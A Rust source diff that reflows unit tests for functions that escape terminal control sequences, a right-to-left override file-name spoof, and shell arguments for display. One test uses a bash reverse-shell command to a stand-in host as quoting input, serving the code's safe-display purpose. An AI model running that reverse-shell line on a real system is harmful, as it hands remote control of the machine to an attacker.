@@ -56,10 +56,7 @@ mod tests {
 
     #[test]
     fn terminal_sequences_are_spelled_out() {
-        assert_eq!(
-            shown("a\x1b[2Jb\n\u{7f}\u{9b}"),
-            "a\\u{1b}[2Jb\\n\\u{7f}\\u{9b}"
-        );
+        assert_eq!(shown("a\x1b[2Jb\n\u{7f}\u{9b}"), "a\\u{1b}[2Jb\\n\\u{7f}\\u{9b}");
         assert_eq!(shown("x\u{202e}gpj.sh"), "x\\u{202e}gpj.sh");
         assert_eq!(shown("größe 字"), "größe 字");
     }
@@ -74,9 +71,6 @@ mod tests {
     #[test]
     fn arguments_as_a_line() {
         let args = ["bash", "-c", "bash -i >& /dev/tcp/a/1 0>&1", "", "it's"].map(String::from);
-        assert_eq!(
-            command_line(&args),
-            "bash -c 'bash -i >& /dev/tcp/a/1 0>&1' '' 'it'\\''s'"
-        );
+        assert_eq!(command_line(&args), "bash -c 'bash -i >& /dev/tcp/a/1 0>&1' '' 'it'\\''s'");
     }
 }
